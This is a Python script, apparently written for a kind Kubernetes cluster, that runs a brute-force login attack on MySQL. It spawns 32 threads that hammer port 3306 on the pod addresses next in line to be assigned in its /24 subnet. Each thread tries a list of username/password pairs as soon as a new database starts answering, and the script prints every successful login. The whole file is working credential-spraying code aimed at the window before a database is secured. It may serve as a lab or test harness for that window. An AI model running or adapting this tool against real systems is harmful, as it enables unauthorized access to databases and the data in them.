"""Tries passwords on the addresses that Pods are given next, without pause: on whatever appears there, from its first
packet on.

A Pod's address is known in the API only after its server may have answered, but addresses are given out in order
(host-local, as kind has it). LOGINS is a list of [user, password]. Each success is told at once; what else became of
the attempts, by address, every second.
"""

from __future__ import annotations

import ipaddress
import json
import os
import socket
import threading
import time
from collections import Counter, defaultdict

import pymysql
from pymysql.constants.ER import ACCESS_DENIED_ERROR

PORT = 3306
WINDOW = 32
PATIENCE = 0.05
LOGINS = json.loads(os.environ["LOGINS"])
seen: defaultdict[str, Counter[str]] = defaultdict(Counter)


def hammer(address: str) -> None:
    """Try one address for ever."""
    while True:
        try:
            socket.create_connection((address, PORT), timeout=PATIENCE).close()
        except ConnectionRefusedError:
            seen[address]["closed"] += 1
            time.sleep(PATIENCE / 10)
        except OSError:
            time.sleep(PATIENCE)
        else:
            for user, password in LOGINS:
                seen[address][attempt(address, user, password)] += 1


def attempt(address: str, user: str, password: str) -> str:
    """Return what became of one login."""
    try:
        pymysql.connect(host=address, port=PORT, user=user, password=password, connect_timeout=1).close()
    except pymysql.Error as error:
        return "denied" if error.args[0] == ACCESS_DENIED_ERROR else f"error {error.args[0]}"
    print(json.dumps({"success": user, "address": address}))
    return "success"


own = ipaddress.ip_interface(f"{socket.gethostbyname(socket.gethostname())}/24")
others = [str(host) for host in own.network.hosts() if host != own.ip]
start = int(own.ip) - int(own.network.network_address) - 1
for number in range(WINDOW):
    threading.Thread(target=hammer, args=(others[(start + number) % len(others)],)).start()
while True:
    print(json.dumps({"seen": seen}))
    time.sleep(1)
